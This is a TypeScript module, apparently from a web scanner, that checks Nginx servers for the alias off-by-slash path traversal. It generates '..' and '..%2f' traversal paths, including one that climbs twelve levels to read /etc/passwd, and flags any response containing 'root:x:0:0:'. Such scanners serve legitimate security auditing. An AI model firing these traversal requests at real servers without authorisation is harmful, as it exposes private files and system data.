/** Ways out of the folder of a file that Nginx serves: a missing slash beside `alias` opens the folder above. */
import { failedAnswer, httpGet } from "./http.ts";
import type { Answer } from "./model.ts";

/** The paths outside the folder of a file by which that file, or one of the system, can be read. */
export async function escapesFrom(url: URL, file: Answer): Promise<string[]> {
  if (file.status !== 200) return [];
  const escapes: string[] = [];
  for (const path of waysOut(url.pathname)) {
    if (isOutside(await httpGet(url, { path }).catch(failedAnswer), file)) escapes.push(path);
  }
  return escapes;
}

/**
 * Paths that lead out of the folder of a file, if Nginx lets them: above the folder of each location that there may be,
 * and from there to the same file, or to one that every machine has.
 */
export function waysOut(path: string): string[] {
  const folders = path.split("/").slice(1, -1);
  const back = folders.flatMap((folder, index) => {
    const location = `/${folders.slice(0, index + 1).join("/")}`;
    const file = `${folder}${path.slice(location.length)}`;
    return [`${location}../${file}`, `${location}..%2f${file}`];
  });
  const above = "..%2f".repeat(12);
  return [...back, `/${[...folders, ""].join("/")}${above}etc/passwd`];
}

/** Whether an answer is that same file, or the one that every machine has. */
const isOutside = ({ status, body }: Answer, file: Answer) =>
  status === 200 && (body.equals(file.body) || body.includes("root:x:0:0:"));
